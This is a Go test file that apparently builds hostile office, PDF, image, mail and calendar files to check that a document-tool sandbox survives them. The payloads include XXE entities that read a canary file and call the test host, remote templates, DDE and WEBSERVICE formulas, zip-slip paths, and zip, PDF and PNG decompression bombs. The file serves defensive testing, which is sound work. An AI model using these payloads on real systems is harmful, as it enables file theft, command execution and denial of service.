//go:build linux

package attacks

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"slices"
	"strings"

	"legomem/tools"
	"legomem/tools/sandbox"
)

// files is a testbed with one hostile file; filesWith one that knows the host
// it is to attack.
func files(name string, data []byte) func(*host) map[string][]byte {
	return filesWith(name, func(*host) []byte { return data })
}

func filesWith(name string, data func(*host) []byte) func(*host) map[string][]byte {
	return func(h *host) map[string][]byte {
		all := plainFiles(h)
		all[name] = data(h)
		return all
	}
}

// argsFor calls a tool on the hostile file, which is always called "a".
func argsFor(tool string) map[string]any {
	app, _, _ := strings.Cut(tool, ".")
	switch tool {
	case "email.list":
		return map[string]any{}
	case "email.read":
		return map[string]any{"id": "a.eml"}
	case "calendar.list_events":
		return map[string]any{"user": "Dana", "from": "2026-03-01", "to": "2026-03-31"}
	case "calendar.find_free_time":
		return map[string]any{"users": []any{"Dana"}, "date": "2026-03-12", "duration_minutes": 30.0}
	case "excel.set_cell":
		return map[string]any{"file_path": "data/a.xlsx", "cell": "A1", "value": "x"}
	case "word.write":
		return map[string]any{"file_path": "data/a.docx", "content": "x"}
	}
	suffix := map[string]string{"excel": "xlsx", "word": "docx", "pdf": "pdf", "ocr": "png"}[app]
	return map[string]any{"file_path": "data/a." + suffix}
}

// harmless: the tool may read the file or refuse it, but the sandbox lives, the
// host's secret does not come, and nothing lands outside.
func harmless(names ...string) func(*victim) {
	return func(v *victim) {
		for _, tool := range names {
			obs := v.call(tool, argsFor(tool))
			if obs.Code == tools.Internal {
				v.Errorf("%s broke on it: %s", tool, obs.Text)
			}
			if obs.Code == tools.BadArguments {
				v.Errorf("%s was not called as it should: %s", tool, obs.Text)
			}
			if len(obs.Text) > 4<<20 {
				v.Errorf("%s returned %d bytes", tool, len(obs.Text))
			}
		}
		v.takeOut()
	}
}

// refusedFile: the tool says no, with a reason that a user can act on.
func refusedFile(names ...string) func(*victim) {
	return func(v *victim) {
		for _, tool := range names {
			v.fails(tool, argsFor(tool), tools.TooLarge, tools.Corrupt, tools.Refused)
		}
	}
}

// contained: the tool may also run into the sandbox's memory.
func contained(tool, file string) func(*victim) {
	return func(v *victim) {
		obs, err := v.sb.Call(v.Context(), tools.Action{Tool: tool, Args: map[string]any{"file_path": file}})
		var b *sandbox.Breach
		if err != nil && (!errors.As(err, &b) || b.Limit != sandbox.LimitMemory) {
			v.Errorf("%s: %+v, %v", tool, obs, err)
		}
	}
}

// converts has LibreOffice open the file, where it is there. It may make a pdf
// or refuse; nobody is called (host.unchanged looks) and no secret comes.
func converts(tool, file string) func(*victim) {
	return func(v *victim) {
		obs := v.call(tool, map[string]any{"file_path": file})
		if obs.Code == tools.MissingProgram {
			v.Skip(obs.Text)
		}
		if obs.Code == tools.Internal || obs.Code == tools.BadArguments {
			v.Errorf("%s: %s", tool, obs.Text)
		}
		if read := v.call("pdf.read", map[string]any{"file_path": "data/a.pdf"}); !obs.Failed && read.Failed {
			v.Errorf("it was converted, and the pdf cannot be read: %s", read.Text)
		}
		v.takeOut()
	}
}

// startsNothing: a formula that names a program stays a text.
func startsNothing(v *victim) {
	converts("excel.to_pdf", "data/a.csv")(v)
	for p := range tree(v.T, v.host.out) {
		if strings.Contains(p, "started") {
			v.Errorf("the formula ran: %s", p)
		}
	}
}

func expression(v *victim) {
	for _, e := range []string{strings.Repeat("9 * ", 2000) + "9", strings.Repeat("(", 3000) + "1" + strings.Repeat(")", 3000), "1 / 0", "1e308 * 1e308"} {
		v.call("system.calculate", map[string]any{"expression": e})
	}
	v.call("system.extract", map[string]any{"text": strings.Repeat("a", 100_000) + "!", "pattern": "(a+)+$"})
}

func mailWithAttachment(name string) []byte {
	return []byte("From: bob@example.com\r\nTo: dana@example.com\r\nSubject: report\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee there\r\n" +
		"--b\r\nContent-Type: text/x-sh\r\nContent-Disposition: attachment; filename=\"" + name + "\"\r\n\r\necho hello\r\n--b--\r\n")
}

func deepMail(*host) []byte {
	var b bytes.Buffer
	b.WriteString("From: bob@example.com\r\nTo: dana@example.com\r\nSubject: a\r\nMIME-Version: 1.0\r\n")
	for i := range 1000 {
		fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
	}
	b.WriteString("Content-Type: text/plain\r\n\r\ndeep\r\n")
	return b.Bytes()
}

var endlessEvent = []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:19700101T000000Z\r\nDTEND:19700101T000001Z\r\n" +
	"RRULE:FREQ=SECONDLY\r\nSUMMARY:tick\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")

// parts is a zip of these files.
func parts(content ...[2]string) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, part := range content {
		w, err := z.Create(part[0])
		if err == nil {
			_, err = io.WriteString(w, part[1])
		}
		if err != nil {
			panic(err) // a zip in memory
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

const (
	header = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`
	ooxml  = "http://schemas.openxmlformats.org"
)

var wordTypes = [2]string{"[Content_Types].xml", header + `<Types xmlns="` + ooxml + `/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`}

var wordRoot = [2]string{"_rels/.rels", header + `<Relationships xmlns="` + ooxml + `/package/2006/relationships"><Relationship Id="rId1" Type="` + ooxml + `/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`}

func paragraph(text string) string {
	return `<w:document xmlns:w="` + ooxml + `/wordprocessingml/2006/main" xmlns:r="` + ooxml + `/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>` + text + `</w:t></w:r></w:p></w:body></w:document>`
}

func documentXML(xml string) []byte {
	return parts(wordTypes, wordRoot, [2]string{"word/document.xml", xml})
}

func laughs(*host) []byte {
	var b strings.Builder
	b.WriteString(header + "\n<!DOCTYPE d [\n<!ENTITY l0 \"laugh\">\n")
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, "<!ENTITY l%d \"%s\">\n", i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
	}
	b.WriteString("]>\n" + paragraph("&l9;"))
	return documentXML(b.String())
}

func externalEntity(h *host) []byte {
	return documentXML(header + `<!DOCTYPE d [<!ENTITY x SYSTEM "file://` + h.canary + `"><!ENTITY % y SYSTEM "http://` + h.address + `/x.dtd">%y;]>` + paragraph("&x;"))
}

func externalEntitySheet(h *host) []byte {
	return sheetXML(header + `<!DOCTYPE d [<!ENTITY x SYSTEM "file://` + h.canary + `">]><worksheet xmlns="` + ooxml + `/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>`)
}

func remoteTemplate(h *host) []byte {
	relations := `<Relationships xmlns="` + ooxml + `/package/2006/relationships">`
	return parts(wordTypes, wordRoot, [2]string{"word/document.xml", header + paragraph("a letter")},
		[2]string{"word/settings.xml", header + `<w:settings xmlns:w="` + ooxml + `/wordprocessingml/2006/main" xmlns:r="` + ooxml + `/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`},
		[2]string{"word/_rels/document.xml.rels", header + relations + `<Relationship Id="rId1" Type="` + ooxml + `/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>`},
		[2]string{"word/_rels/settings.xml.rels", header + relations + `<Relationship Id="rId1" Type="` + ooxml + `/officeDocument/2006/relationships/attachedTemplate" Target="http://` + h.address + `/t.dotm" TargetMode="External"/></Relationships>`})
}

func linkedPicture(h *host) []byte {
	field := func(target string) string {
		return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "` + target + `" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	body := `<w:document xmlns:w="` + ooxml + `/wordprocessingml/2006/main" xmlns:r="` + ooxml + `/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>` +
		field("file://"+h.canary) + field("http://"+h.address+"/x.docx") +
		`<w:p><w:r><w:pict><v:shape style="width:100pt;height:100pt"><v:imagedata r:link="rId7" r:href="rId7"/></v:shape></w:pict></w:r></w:p></w:body></w:document>`
	return parts(wordTypes, wordRoot, [2]string{"word/document.xml", header + body},
		[2]string{"word/_rels/document.xml.rels", header + `<Relationships xmlns="` + ooxml + `/package/2006/relationships"><Relationship Id="rId7" Type="` + ooxml + `/officeDocument/2006/relationships/image" Target="http://` + h.address + `/p.png" TargetMode="External"/></Relationships>`})
}

func sheetXML(xml string, more ...[2]string) []byte {
	relations := `<Relationships xmlns="` + ooxml + `/package/2006/relationships">`
	all := [][2]string{
		{"[Content_Types].xml", header + `<Types xmlns="` + ooxml + `/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`},
		{"_rels/.rels", header + relations + `<Relationship Id="rId1" Type="` + ooxml + `/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", header + `<workbook xmlns="` + ooxml + `/spreadsheetml/2006/main" xmlns:r="` + ooxml + `/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", header + relations + `<Relationship Id="rId1" Type="` + ooxml + `/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="` + ooxml + `/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", xml},
	}
	return parts(append(all, more...)...)
}

func rows(inside string) string {
	return header + `<worksheet xmlns="` + ooxml + `/spreadsheetml/2006/main"><sheetData>` + inside + `</sheetData></worksheet>`
}

func callingFormulas(h *host) []byte {
	formula := func(cell, f string) string { return `<c r="` + cell + `"><f>` + f + `</f></c>` }
	return sheetXML(rows(`<row r="1">`+formula("A1", `WEBSERVICE("http://`+h.address+`/a")`)+formula("B1", `HYPERLINK("http://`+h.address+`/b","b")`)+
		formula("C1", `cmd|'/C touch started'!A0`)+formula("D1", `'file://`+h.canary+`'#$Sheet1.A1`)+`</row>`), [2]string{"xl/sharedStrings.xml", emptyStrings})
}

const emptyStrings = header + `<sst xmlns="` + ooxml + `/spreadsheetml/2006/main" count="0" uniqueCount="0"/>`

// slip is an office file with a part whose name leads out of it.
func slip(main string) []byte {
	escape := [][2]string{{"../../../../escape.txt", "out"}, {"/escape.txt", "out"}, {`..\..\escape.txt`, "out"}}
	if strings.HasPrefix(main, "xl/") {
		return sheetXML(rows(`<row r="1"><c r="A1"><v>1</v></c></row>`), append(escape, [2]string{"xl/sharedStrings.xml", emptyStrings})...)
	}
	return parts(append([][2]string{wordTypes, wordRoot, {main, header + paragraph("a letter")}}, escape...)...)
}

// bomb is an office file of which one part unpacks to a gigabyte.
func bomb(part string) func(*host) []byte {
	return func(*host) []byte { return exploding(part) }
}

func exploding(part string) []byte {
	open, fill, end := bombXML(part)
	block := strings.Repeat(fill, 1<<20/len(fill))
	sum, size := crc32.NewIEEE(), uint64(len(open)+1024*len(block)+len(end))
	var packed bytes.Buffer
	packed.Write(squeezed(open))
	sum.Write([]byte(open))
	small := squeezed(block)
	for range 1024 {
		packed.Write(small)
		sum.Write([]byte(block))
	}
	sum.Write([]byte(end))
	packed.Write(squeezed(end))
	packed.Write([]byte{3, 0}) // an empty last block
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	base := parts(wordTypes, wordRoot)
	if strings.HasPrefix(part, "xl/") {
		base = sheetXML(rows(`<row r="1"><c r="A1" t="s"><v>0</v></c></row>`), [2]string{"xl/sharedStrings.xml", emptyStrings})
	}
	old, err := zip.NewReader(bytes.NewReader(base), int64(len(base)))
	if err != nil {
		panic(err)
	}
	for _, file := range old.File {
		if file.Name != part {
			if err := z.Copy(file); err != nil {
				panic(err)
			}
		}
	}
	w, err := z.CreateRaw(&zip.FileHeader{Name: part, Method: zip.Deflate, CRC32: sum.Sum32(),
		CompressedSize64: uint64(packed.Len()), UncompressedSize64: size})
	if err == nil {
		_, err = w.Write(packed.Bytes())
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		panic(err)
	}
	return out.Bytes()
}

// squeezed is a text as blocks of a deflate stream that other blocks may follow.
func squeezed(text string) []byte {
	var out bytes.Buffer
	f, err := flate.NewWriter(&out, flate.BestCompression)
	if err == nil {
		_, err = io.WriteString(f, text)
	}
	if err == nil {
		err = f.Flush()
	}
	if err != nil {
		panic(err)
	}
	return out.Bytes()
}

func bombXML(part string) (open, fill, end string) {
	switch part {
	case "xl/sharedStrings.xml":
		return header + `<sst xmlns="` + ooxml + `/spreadsheetml/2006/main">`, `<si><t>bomb</t></si>`, `</sst>`
	case "xl/worksheets/sheet1.xml":
		return header + `<worksheet xmlns="` + ooxml + `/spreadsheetml/2006/main"><sheetData>`, `<row><c><v>1</v></c></row>`, `</sheetData></worksheet>`
	}
	before, after, _ := strings.Cut(header+paragraph("@"), "@")
	return before, "bomb ", after
}

func manyParts(*host) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for i := range 100_000 {
		if _, err := z.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("xl/%d", i)}); err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// pdfBomb is one page whose content unpacks twice, to 600 MB.
func pdfBomb(*host) []byte {
	squeeze := func(data []byte, times int) []byte {
		var out bytes.Buffer
		w, _ := zlib.NewWriterLevel(&out, zlib.BestSpeed) // a level that there is
		for range times {
			_, _ = w.Write(data) // into memory
		}
		_ = w.Close()
		return out.Bytes()
	}
	inner := squeeze(squeeze(bytes.Repeat([]byte("(bomb) Tj\n"), 100_000), 600), 1)
	var b bytes.Buffer
	offsets := []int{}
	object := func(s string) {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", len(offsets), s)
	}
	b.WriteString("%PDF-1.4\n")
	object("<</Type/Catalog/Pages 2 0 R>>")
	object("<</Type/Pages/Kids[3 0 R]/Count 1>>")
	object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>")
	object(fmt.Sprintf("<</Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n%s\nendstream", len(inner), inner))
	at := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(offsets)+1)
	for _, o := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(offsets)+1, at)
	return b.Bytes()
}

// pictureBomb says that it is 32,000 by 32,000 points.
func pictureBomb(*host) []byte {
	chunk := func(kind string, data []byte) []byte {
		out := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		out = append(append(out, kind...), data...)
		return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[4:]))
	}
	size := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, 32_000), 32_000)
	magic, _ := base64.StdEncoding.DecodeString("iVBORw0KGgo=")
	var packed bytes.Buffer
	w := zlib.NewWriter(&packed)
	_, _ = w.Write(make([]byte, 1<<20)) // into memory
	_ = w.Close()
	return slices.Concat(magic, chunk("IHDR", append(size, 8, 0, 0, 0, 0)), chunk("IDAT", packed.Bytes()), chunk("IEND", nil))
}
